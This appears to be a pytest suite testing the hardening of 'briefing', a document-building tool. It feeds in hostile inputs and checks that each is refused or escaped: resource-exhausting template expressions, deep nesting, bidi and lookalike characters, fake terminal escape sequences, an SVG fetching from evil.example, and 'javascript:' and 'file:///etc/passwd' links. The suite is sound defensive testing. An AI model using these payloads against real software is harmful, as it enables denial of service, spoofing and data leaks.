    assert code == 0, out + err
    po = project / "locales" / "he" / "LC_MESSAGES" / "good.po"
    text = po.read_text().replace('msgctxt "title"\nmsgid "A good brief"\nmsgstr ""',
                                  'msgctxt "title"\nmsgid "A good brief"\nmsgstr "' + "<a" * 400_000 + '"')
    po.write_text(text)
    code, out = cli_subprocess("translate", "check", "--project", str(project), timeout=60)
    assert code == 1 and "locales/he/LC_MESSAGES/good.po" in out and "Traceback" not in out, out[:2000]
    text = po.read_text().replace("<a" * 400_000, "[a" * 5_000)
    po.write_text(text)
    code, out = cli_subprocess("translate", "check", "--project", str(project), timeout=60)
    assert code == 1 and "text has more than 200 '[' characters" in out, out[:2000]


@pytest.mark.parametrize("payload,message", [
    ("{{ 'x' * 10**9 }}", "repeating a value 1,000,000,000 times is too much for a template"),
    ("{{ 3 ** 40000000 }}", "the exponent 40000000 is too large for a template"),
    ("{{ [1] * 10**8 }}", "repeating a value 100,000,000 times is too much for a template"),
])
def test_template_constant_folding_and_arithmetic_are_bounded(project, payload, message):
    line = insert_in_body(project, payload)
    code, out = cli_subprocess("build", "--project", str(project), "--template", "evil", "--format", "html",
                               "--out", str(project / "out"), "--jobs", "0", timeout=60)
    assert code == 1
    assert f"templates/evil/document.html:{line}: error: template tried something unsafe: {message}" in out, out


# --- 7. bad input and faults end in a message, never a traceback ------------------------

@pytest.mark.parametrize("value,message", [
    (".nan", "briefs/good.yaml:10:5: error: the value (nan) is not a number a document can show"),
    ("-.inf", "briefs/good.yaml:10:5: error: the value (-inf) is not a number a document can show"),
    ("1" + "0" * 400, "briefs/good.yaml:10:5: error: the value (a 401-digit number) is not a number a document "
                      "can show"),
])
def test_unshowable_fact_values_are_refused_by_check(tiny_project, value, message):
    brief = tiny_project / "briefs" / "good.yaml"
    brief.write_text(brief.read_text().replace("value: 0.69", f"value: {value}"))
    code, out, err = run_cli("check", "--project", str(tiny_project))
    assert code == 1 and message in err and "Traceback" not in err, err


@pytest.mark.parametrize("where,data,message", [
    ("sources/deep.json", "[" * 100_000 + "]" * 100_000, "sources/deep.json:1:1: error: JSON is nested too deeply"),
    ("briefing.toml", b'[build]\noutput = "b\xff"\n', "briefing.toml:2: error: file is not valid UTF-8"),
    ("briefing.toml", "x = " + "[" * 20_000 + "]" * 20_000,
     "briefing.toml: error: settings are nested deeper than 10 levels"),
    ("briefing.toml", '[organization]\nname = "Amnesty \u202eInternational"\n',
     "briefing.toml:2:17: error: invisible bidi control character U+202E"),
])
def test_malformed_files_are_explained(tiny_project, where, data, message):
    path = tiny_project / where
    path.write_bytes(data if isinstance(data, bytes) else data.encode())
    code, out = cli_subprocess("check", "--project", str(tiny_project))
    assert code == 1 and message in out and "Traceback" not in out, out


@pytest.mark.parametrize("shape", [
    [], None, {"version": 1, "entries": []},
    {"version": 1, "entries": "same"},   # replaced below by entries of every wrong shape
])
def test_cache_of_the_wrong_shape_is_a_miss(tiny_project, shape):
    import json
    out_dir = tiny_project / "out"
    args = ("build", "--project", str(tiny_project), "--jobs", "0", "--format", "html", "--out", str(out_dir))
    assert run_cli(*args)[0] == 0
    cache = out_dir / ".briefing-cache.json"
    if shape == {"version": 1, "entries": "same"}:
        data = json.loads(cache.read_text())
        for entry in data["entries"].values():
            entry.update({"problems": ["not a problem", 3], "stats": [1], "parts": 7})
        shape = data
    cache.write_text(json.dumps(shape))
    code, out, err = run_cli(*args)
    assert code == 0 and "Traceback" not in err, out + err
    assert json.loads(cache.read_text())["version"] == 1  # written afresh


def test_manifest_that_is_a_folder_is_an_error(tiny_project):
    out_dir = tiny_project / "out"
    (out_dir / "manifest.json").mkdir(parents=True)
    code, out, err = run_cli("build", "--project", str(tiny_project), "--jobs", "0", "--format", "html",
                             "--out", str(out_dir))
    assert code == 1 and "Traceback" not in err
    assert "out/manifest.json: error: cannot write out/manifest.json: Is a directory" in err, err
    assert (out_dir / "en" / "good.html").is_file()


def test_full_disk_while_writing_the_manifest_is_an_error(tiny_project, monkeypatch):
    import errno

    from briefing import manifest

    def full(*_a, **_k):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
    monkeypatch.setattr(manifest, "atomic_write_bytes", full)
    code, out, err = run_cli("build", "--project", str(tiny_project), "--jobs", "0", "--format", "html",
                             "--out", str(tiny_project / "out"))
    assert code == 1 and "out/manifest.json: error: cannot write out/manifest.json: No space left on device" \
        in err, err


def test_files_vanishing_during_watch_do_not_stop_it(tiny_project, monkeypatch):
    import argparse
    import watchfiles

    from briefing import watch as watch_module
    from briefing.cli import Out
    from briefing.project import Project
    calls = []

    class VanishingSession:
        def __init__(self, *_a, **_k):
            pass

        def build(self, *_a, **_k):
            calls.append(1)
            raise FileNotFoundError(2, "No such file or directory", str(tiny_project / "sources" / "gone.yaml"))

        def close(self):
            pass

    def changes(*_a, **_k):
        yield {(watchfiles.Change.deleted, str(tiny_project / "sources" / "gone.yaml"))}
        raise KeyboardInterrupt
    monkeypatch.setattr(watch_module, "Session", VanishingSession)
    monkeypatch.setattr(watchfiles, "watch", changes)
    stdout, stderr = io.StringIO(), io.StringIO()
    args = argparse.Namespace(brief=None, lang=None, format=["html"], layout=["brief"], out=None, jobs=0, paper=None,
                              template=None, strict=False, show_untranslated=False)
    assert watch_module.watch(Project.open(tiny_project), args, Out(stdout, stderr)) == 0
    assert len(calls) == 2 and "stopped watching" in stdout.getvalue()
    assert "error: sources/gone.yaml changed while it was being read (No such file or directory)" in stderr.getvalue()


# --- 10. deceptive text ---------------------------------------------------------------------

@pytest.mark.parametrize("sid,message", [
    ("\u04bbrw-2020", "source id '\u04bbrw-2020' mixes Cyrillic and Latin letters (a lookalike of another id?)"),
    ("hrw\u200b-2020", "source id 'hrw\\u200b-2020' contains the invisible character U+200B"),
    ("\u0440\u043e\u0441-2020", "source id '\u0440\u043e\u0441-2020' is written in Cyrillic letters that look like "
                                "Latin ones"),
])
def test_lookalike_source_ids_are_refused(tiny_project, sid, message):
    import json
    (tiny_project / "sources" / "more.json").write_text(json.dumps(
        [{"id": sid, "type": "report", "title": "Fake report", "URL": "https://evil.example"}]))
    code, out, err = run_cli("check", "--project", str(tiny_project))
    assert code == 1 and f"sources/more.json:1:3: error: {message}" in err, err


@pytest.mark.parametrize("field", ["title", "container-title", "publisher"])
def test_bidi_controls_in_sources_are_refused(tiny_project, field):
    import json
    (tiny_project / "sources" / "more.json").write_text(json.dumps(
        [{"id": "extra-2020", "type": "report", "title": "A report", field: "Amnesty \u202eInternational"}]))
    code, out, err = run_cli("check", "--project", str(tiny_project))
    assert code == 1
    assert f"error: source 'extra-2020': invisible bidi control character U+202E in '{field}'" in err, err


def test_terminal_control_sequences_are_escaped(tiny_project):
    brief = tiny_project / "briefs" / "good.yaml"
    brief.write_text(brief.read_text() + '"\\e[2J\\e[32m0 error(s)\\r": 1\n')
    code, out, err = run_cli("check", "--project", str(tiny_project))
    assert code == 1 and "\x1b" not in out + err and "\r" not in out + err
    assert "\\x1b[2J\\x1b[32m0 error(s)\\x0d" in err, err


def test_terminal_control_sequences_from_a_po_file_are_escaped(project):
    brief = project / "briefs" / "good.yaml"
    brief.write_text(brief.read_text().replace("languages: [en]", "languages: [en, he]"))
    folder = project / "locales" / "he" / "LC_MESSAGES"
    folder.mkdir(parents=True)
    (folder / "good.po").write_text('msgid "x"\nmsgstr "y"\n\x1b[2K\x1b[1A0 error(s)\n')
    code, out, err = run_cli("check", "--project", str(project))
    assert "\x1b" not in out + err and "\\x1b[2K\\x1b[1A0" in err, err


# --- 9. processes and signals ----------------------------------------------------------------

def _start_build(project: Path, trace: Path, delay: str, *extra: str, jobs: str = "2"):
    import subprocess
    import sys
    env = {**os.environ, "BRIEFING_TEST_WRITE_DELAY": delay, "BRIEFING_TRACE_WORKERS": str(trace)}
    cmd = BRIEFING if Path(BRIEFING[0]).exists() else [sys.executable, "-m", "briefing"]
    import signal

    def as_in_a_terminal():  # a build started from a background job inherits an ignored SIGINT
        signal.signal(signal.SIGINT, signal.SIG_DFL)
    return subprocess.Popen(cmd + ["build", "--project", str(project), "--jobs", jobs, "--out", str(project / "out"),
                                   *extra], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, env=env,
                            preexec_fn=as_in_a_terminal)


def _alive(pid: int) -> bool:
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    with open(f"/proc/{pid}/stat") as fh:  # a zombie is dead
        return fh.read().split(") ")[1][0] != "Z"


def _wait_for(predicate, seconds: float) -> bool:
    import time
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        if predicate():
            return True
        time.sleep(0.2)
    return predicate()


@pytest.mark.slow
def test_workers_die_when_the_build_is_killed(tiny_project, tmp_path):
    import signal
    trace = tmp_path / "trace.txt"
    proc = _start_build(tiny_project, trace, "60", "--format", "pdf,html")
    try:
        assert _wait_for(lambda: trace.exists() and trace.read_text().count("job") >= 1, 90), "no job started"
        workers = {int(line.split()[1]) for line in trace.read_text().splitlines()}
        assert workers and all(_alive(pid) for pid in workers)
        os.kill(proc.pid, signal.SIGKILL)
        proc.wait(10)
        assert _wait_for(lambda: not any(_alive(pid) for pid in workers), 10), "workers outlived the build"
    finally:
        if proc.poll() is None:
            proc.kill()
        for pid in ({int(line.split()[1]) for line in trace.read_text().splitlines()} if trace.exists() else ()):
            if _alive(pid):
                os.kill(pid, signal.SIGKILL)


@pytest.mark.slow
def test_ctrl_c_stops_promptly_and_keeps_what_finished(tiny_project, tmp_path):
    import json
    import signal
    trace = tmp_path / "trace.txt"
    brief = (tiny_project / "briefs" / "good.yaml").read_text()
    for n in (2, 3):     # six documents: Ctrl-C after the first leaves most of them unmade
        (tiny_project / "briefs" / f"good{n}.yaml").write_text(brief.replace("id: good", f"id: good{n}", 1))
    proc = _start_build(tiny_project, trace, "2", "--format", "pdf,docx,html", "--layout", "brief,leave-behind",
                        jobs="1")
    try:
        first = ""
        while "built" not in first:
            first = proc.stdout.readline()
            assert first, "the build ended before any output was built"
        os.kill(proc.pid, signal.SIGINT)
        # promptly: it stops before the queued documents are made (no assertion on wall time;
        # the timeout only keeps a hung build from hanging the suite)
        rest = proc.communicate(timeout=120)[0]
        assert proc.returncode == 130 and "interrupted" in rest and "Traceback" not in rest, rest
    finally:
        if proc.poll() is None:
            proc.kill()
    built = [line.split()[1] for line in (first + rest).splitlines() if line.startswith("built")]
    assert 1 <= len(built) < 18
    cache = json.loads((tiny_project / "out" / ".briefing-cache.json").read_text())
    assert {str(tiny_project / b) for b in built} <= set(cache["entries"])
    # built again (the briefs that had outputs made): what finished is up to date
    again = [arg for name in sorted({Path(b).name.split(".")[0] for b in built}) for arg in ("--brief", name)]
    code, out, err = run_cli("build", "--project", str(tiny_project), "--jobs", "0", "--out",
                             str(tiny_project / "out"), "--format", "pdf,docx,html", "--layout", "brief,leave-behind",
                             *again)
    assert code == 0 and out.count("up to date ") >= len(built), out


# --- 8. what check accepts, build builds completely ---------------------------------------

def test_long_unbreakable_strings_are_not_clipped(tiny_project):
    word, url = "w" * 3000, "https://example.org/" + "u" * 3000
    brief = tiny_project / "briefs" / "good.yaml"
    brief.write_text(brief.read_text().replace("Evidence with a source", f"Evidence {word} and <{url}> with a source"))
    code, out, err = run_cli("build", "--project", str(tiny_project), "--jobs", "0", "--format", "pdf",
                             "--out", str(tiny_project / "out"))
    assert code == 0, out + err
    text = pdftotext(tiny_project / "out" / "en" / "good.pdf").replace("\n", "")
    # broken across lines, so counted by character: nothing is cut off at the page edge
    assert text.count("w") >= 3000 and text.count("u") >= 3000


def test_long_unbreakable_fact_label_is_refused_by_check(tiny_project):
    brief = tiny_project / "briefs" / "good.yaml"
    brief.write_text(brief.read_text().replace("label: Share of imports", "label: Share " + "x" * 500))
    code, out, err = run_cli("check", "--project", str(tiny_project))
    assert code == 1
    assert "briefs/good.yaml:9:5: error: the label has an unbreakable word of 500 characters, too long for the " \
           "key facts table" in err, err


def test_refused_svg_sub_resource_is_an_error(project):
    (project / "assets").mkdir()
    (project / "assets" / "logo.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10">'
        '<image xlink:href="http://evil.example/track.png" width="10" height="10"/></svg>')
    (project / "briefing.toml").write_text('[organization]\nname = "Test Org"\nlogo = "assets/logo.svg"\n')
    code, out = build(project)
    assert code == 1
    assert "error: resource refused (network access is refused; only files inside the template and assets folders " \
           "may be used): http://evil.example/track.png" in out, out
    assert not (project / "out" / "en" / "good.pdf").exists()


def test_word_limits_do_not_stop_a_build(tiny_project):
    title = "A title " * 50
    brief = tiny_project / "briefs" / "good.yaml"
    brief.write_text(brief.read_text().replace("title: A good brief", f"title: {title.strip()}")
                     .replace("subtitle: Everything in order", "subtitle: " + "Sub " * 100)
                     .replace("date: 2024-03-01", "date: 9999-12-31"))
    code, out, err = run_cli("build", "--project", str(tiny_project), "--jobs", "0", "--format", "docx,pdf",
                             "--out", str(tiny_project / "out"))
    assert code == 0, out + err
    import docx
    d = docx.Document(str(tiny_project / "out" / "en" / "good.docx"))
    assert len(d.core_properties.title) == 255 and d.core_properties.title.endswith("\u2026")
    assert title.strip() in "\n".join(p.text for p in d.paragraphs)   # the text itself is whole


# --- properties: the words function and the inline parser ---------------------------------

class _Secret:
    secret = "LEAKED-ATTRIBUTE"

    def __str__(self) -> str:
        return "VALUE"


PATTERN_TEXT = st.lists(st.sampled_from(list("{}[]!:.0x_ab _-<>&\"'") + ["__class__", "__globals__", "secret",
                                                                          "date", "x"]), max_size=40).map("".join)
PATTERNS = st.one_of(st.text(max_size=60), st.lists(st.sampled_from(
    ["{x}", "{x.secret}", "{x.__class__}", "{x!r}", "{x:>9}", "{x[0]}", "{0}", "{}", "{{x}}", "{date}", "{", "}",
     "text ", "<b>", "&amp;", "{x.__init__.__globals__}"]), max_size=8).map("".join), PATTERN_TEXT)


@settings(max_examples=300, deadline=None)
@given(PATTERNS)
def test_words_function_fills_plain_names_only(pattern):
    from briefing.document import Document
    from briefing.i18n.words import fill
    out = fill(pattern, {"x": _Secret(), "date": "DATE"})
    assert "LEAKED-ATTRIBUTE" not in out and "<class" not in out and "function" not in out
    # exactly the plain {x} and {date} fields are replaced; everything else stays as written
    assert out.replace("VALUE", "{x}").replace("DATE", "{date}") == \
        pattern.replace("VALUE", "{x}").replace("DATE", "{date}")
    assert out.count("VALUE") == pattern.count("{x}") + pattern.count("VALUE")
    doc = Document.__new__(Document)
    doc.words = {"msg": pattern}
    assert doc.word("msg", x=_Secret(), date="DATE") == out
    assert doc.word("msg") == pattern


@settings(max_examples=150, deadline=None)
@given(PATTERNS)
def test_template_words_are_escaped_and_never_formatted(pattern):
    from types import SimpleNamespace

    from briefing.document import Document
    from briefing.render.html import _context
    doc = Document.__new__(Document)
    doc.words = {"msg": pattern, "Page {page} of {pages}": "Page {page} of {pages}"}
    doc.fonts = {"serif": ["Noto Serif"], "sans": ["Noto Sans"]}
    doc.paper, doc.lang = "a4", "en"
    doc.branding = SimpleNamespace(colors={}, organization="")
    tset = SimpleNamespace(logo_url=lambda project: None, style=SimpleNamespace(css_stack=lambda kind, lang: "serif"))
    t = _context(doc, SimpleNamespace(), tset)["t"]
    html = str(t("msg", x=_Secret()))
    assert "LEAKED-ATTRIBUTE" not in html and "<class" not in html
    assert "<" not in html and ">" not in html  # escaped, never markup


INLINE_TEXT = st.one_of(
    st.text(max_size=200),
    st.lists(st.sampled_from(["*", "**", "_", "[", "]", "(", ")", "[@hrw-2020]", "[@a; @b, p. 4]", "{fact}",
                              "<script>", "javascript:alert(1)", "[x](javascript:alert(1))", "[x](https://a.org)",
                              "<https://a.org>", "`code`", "\\", "\n", " ", "word", "\u202e", "&lt;", "{x.__class__}",
                              "[see @k]", "@k", "file:///etc/passwd", "[y](file:///etc/passwd)", "![i](x.png)"]),
             max_size=40).map("".join))


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(INLINE_TEXT)
def test_inline_parser_accepts_or_explains_and_writes_safe_html(text):
    from briefing.errors import Location
    from briefing.inline import Link, parse, walk
    from briefing.render.active import check_html
    from briefing.render.html import inline
    parsed = parse(text, "en")
    for node in walk(parsed.nodes):
        if isinstance(node, Link):
            assert node.href.lower().startswith(("http://", "https://", "mailto:")), node.href
    html = str(inline(parsed.nodes))
    import re
    assert "<script" not in html and "<img" not in html
    for href in re.findall(r'href="([^"]*)"', html):
        assert href.lower().startswith(("http://", "https://", "mailto:")), href
    check_html(f"<html><body><p>{html}</p></body></html>", Location("x"))


def test_template_toml_is_read_like_every_project_file(project, tmp_path):
    """A template set's palette file may not be a link out of its folder, nor a FIFO."""
    secret = tmp_path / "secret.toml"
    secret.write_text('[colors]\nprimary = "#123456"  # SECRET-CONTENT\n')
    style = project / "templates" / "evil" / "template.toml"
    style.unlink(missing_ok=True)
    style.symlink_to(secret)
    code, out = build(project)
    assert code == 1 and "template.toml" in out and "SECRET-CONTENT" not in out
    style.unlink()
    os.mkfifo(style)
    code, out = build(project)     # refused at once, not a hang
    assert code == 1 and "template.toml" in out


@pytest.mark.parametrize("family,message", [
    ("A\\u0001B", "setting 'fonts.text_family' holds the control character U+0001"),
    ("x\\u0000", "setting 'fonts.text_family' holds the control character U+0000"),
    ("Noto\\n", "setting 'fonts.text_family': not a font family name"),
    ("A" * 101, "setting 'fonts.text_family': not a font family name"),
])
def test_template_toml_font_family_with_control_characters_is_an_error_not_a_crash(project, family, message):
    """A control character in a font family name crashed the Word writer (its XML cannot hold
    one): an 'internal error' per document. Now it is the setting's error at its line."""
    style = project / "templates" / "evil" / "template.toml"
    style.write_text(f'[fonts]\ntext = "serif"\ntext_family = "{family}"\n', encoding="utf-8")
    code, out, err = run_cli("build", "--project", str(project), "--template", "evil", "--format", "docx",
                             "--out", str(project / "out"), "--jobs", "0")
    assert code == 1
    assert f"templates/evil/template.toml:3:1: error: {message}" in out + err
    assert "internal error" not in out + err and "Traceback" not in out + err


def test_briefing_toml_text_with_an_escaped_control_character_is_an_error_not_a_crash(project):
    """`name = "Org\\u0001"` (TOML's escape) crashed the Word writer on every document."""
    (project / "briefing.toml").write_text('[organization]\nname = "Org\\u0001X"\n', encoding="utf-8")
    code, out, err = run_cli("build", "--project", str(project), "--format", "docx", "--out", str(project / "out"),
                             "--jobs", "0")
    assert code == 1
    assert "briefing.toml:2:1: error: setting 'organization.name' holds the control character U+0001" in out + err
    assert "internal error" not in out + err
